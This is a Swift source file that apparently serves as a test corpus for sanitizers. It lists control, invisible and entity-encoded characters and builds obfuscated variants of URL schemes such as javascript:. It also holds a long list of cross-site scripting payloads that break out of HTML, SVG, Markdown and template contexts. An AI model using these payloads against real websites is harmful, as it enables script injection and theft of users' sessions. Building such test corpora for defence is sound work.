/// Spellings that have made programs run what they should have shown.
public enum HostileSpellings {
  /// A character that a literal cannot hold.
  private static func character(_ value: UInt32) -> String {
    Unicode.Scalar(value).map { String(Character($0)) } ?? ""
  }

  /// What is put before, into and behind a scheme.
  public static let insertions: [String] = [
    " ", "\t", "\n", "\r", "\u{0}", "\u{1}", "\u{8}", "\u{B}", "\u{C}", "\u{E}", "\u{1B}",
    "\u{1F}", "\u{7F}", "\u{80}", "\u{85}", "\u{9F}", "\u{A0}", "\u{AD}", "\u{200B}", "\u{200E}",
    "\u{202E}", "\u{2028}", "\u{2060}", "\u{3000}", character(0xFDD0), character(0xFDEF),
    "\u{FEFF}", "\u{FFF9}", "\u{FFFD}", character(0xFFFE), character(0xFFFF), character(0x1FFFE),
    character(0x10FFFF), "\u{E0020}", "&#9;", "&#10;", "&#x7f;", "&#127", "&#0;", "&#xFDD0;",
    "&Tab;", "&NewLine;", "&shy;", "&zwj;", "&#000000000000000009;", "&#99999999999999999999;",
    "%09", "%0A", "%00", "%7F", "%C2%85", "\\",
  ]

  /// Ways to write an address of a scheme.
  public static func addresses(_ scheme: String, _ rest: String) -> [String] {
    var all: [String] = []
    for scheme in [scheme, scheme.uppercased(), scheme.prefix(1).uppercased() + scheme.dropFirst()]
    {
      all.append(scheme + ":" + rest)
      for insertion in insertions {
        for place in [0, 1, scheme.count / 2, scheme.count] {
          let split = scheme.index(scheme.startIndex, offsetBy: place)
          all.append(scheme[..<split] + insertion + scheme[split...] + ":" + rest)
        }
        all.append(String(repeating: insertion, count: 50) + scheme + ":" + rest)
      }
      for colon in ["&colon;", "&#58;", "&#x3a;", "&#X3A;", "&#0000058", "%3A", "%3a"] {
        all.append(scheme + colon + rest)
      }
    }
    for index in scheme.indices {
      guard let value = scheme[index].asciiValue else { continue }
      let rest = scheme[scheme.index(after: index)...] + ":" + rest
      let hex = String(value, radix: 16)
      for letter in ["&#\(value);", "&#x\(hex);", "&#0000\(value)\u{AD}", "%\(hex)"] {
        all.append(scheme[..<index] + letter + rest)
      }
    }
    return all
  }

  /// Text that breaks out of where it stands if anything forgets to escape it; `%` is the script.
  public static let markup: [String] = [
    "<script>%</script>", "<img src=x onerror=%>", "\"><img src=x onerror=%>",
    "'><svg onload=%>", "</title><script>%</script>", "</style><script>%</script>",
    "</textarea><script>%</script>", "--><script>%</script>", "]]><script>%</script>",
    "</script><script>%</script>", "&lt;img src=x onerror=%&gt;", "&#60;script>%&#60;/script>",
    "`<script>%</script>`", "``<script>%</script>", "[x](javascript:%)", "[x](<javascript:%>)",
    "![x](javascript:%)", "<javascript:%>", "[x]: javascript:%", "[x]: javascript:%\n\n[x]",
    "{: onclick=\"%\"}", "x\n{: onclick=\"%\"}", "{::nomarkdown}<script>%</script>{:/}",
    "{{ '&lt;script>%&lt;/script>' | replace: '&lt;', '<' }}",
    "{:/}<script>%</script>", "$$<script>%</script>$$", "$$ x $$ <script>%</script>",
    "\\<script>%</script>", "\\\\<script>%</script>", "x\r<script>%</script>",
    "x\r\n\r\n<script>%</script>", "x\n\n<script>%</script>", "\n<script>%</script>",
    "~~~\n<script>%</script>", "```\n<script>%</script>", "~~~\r```\r<script>%</script>",
    "<!-- --><script>%</script>", "<!--><script>%</script>-->", "<?x ?><script>%</script>",
    "<![CDATA[<script>%</script>]]>", "x\"onerror=\"%", "x' onmouseover='%' y='",
    "\" onmouseover=\"%\" x=\"", "\u{0}<script>%</script>", "<\u{0}script>%</script>",
    "<scr\u{7F}ipt>%</scr\u{7F}ipt>", "<s\u{85}cript>%</script>",
    "<" + character(0xFDD0) + "script>%</script>",
    "<a href=javascript:%>x</a>", "<a href=\"java\tscript:%\">x</a>",
    "<iframe src=javascript:%></iframe>", "<iframe srcdoc='<script>%</script>'></iframe>",
    "<svg><script>%</script></svg>", "<svg/onload=%>",
    "<math><a xlink:href=javascript:%>x</a></math>",
    "<details open ontoggle=%>", "<body onload=%>", "<input onfocus=% autofocus>",
    "<form action=javascript:%><button>x</button></form>",
    "<button formaction=javascript:%>x</button>",
    "<meta http-equiv=refresh content=\"0;javascript:%\">", "<base href=\"javascript:%//\">",
    "<object data=javascript:%></object>", "<embed src=javascript:%>",
    "<table background=javascript:%>", "<a ping=\"javascript:%\" href=x>x</a>",
    "<video src=x onerror=%></video>", "<video><source onerror=%></video>",
    "<link rel=stylesheet href=javascript:%>", "<style>@import 'javascript:%';</style>",
    "<p style=\"background:url(javascript:%)\">x</p>", "<xmp><script>%</script></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=%>\">",
    "<template><script>%</script></template>",
    "<plaintext><script>%</script>", "<isindex action=javascript:% type=image>",
    "<marquee onstart=%>x</marquee>", "<div markdown=\"1\"><script>%</script></div>",
    "|x|\n|-|\n|<script>%</script>|", "- <script>%</script>", "> <script>%</script>",
    "1. <script>%</script>", "# <script>%</script>", "x  \n<script>%</script>",
    "[^1]: <script>%</script>", "*[x]: <script>%</script>", "<<script>%</script>",
    "<script\u{C}src=x>%</script>", "<img\u{B}src=x onerror=%>", "<img/src=x/onerror=%>",
    "&amp;lt;script>%", "\u{FEFF}<script>%</script>", "\u{2028}<script>%</script>",
    "{{ '<script>%</script>' }}", "{% raw %}<script>%</script>{% endraw %}",
    "^\n<script>%</script>",
  ]
}
